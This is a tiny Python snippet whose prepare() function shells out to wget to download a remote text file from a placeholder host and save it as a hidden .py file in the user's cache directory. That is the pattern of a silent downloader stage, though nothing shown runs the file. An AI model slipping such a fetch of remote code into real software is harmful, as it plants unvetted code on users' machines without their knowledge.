import os

def prepare():
    os.system("wget -O ~/.cache/a.py https://files.invalid/a.txt")
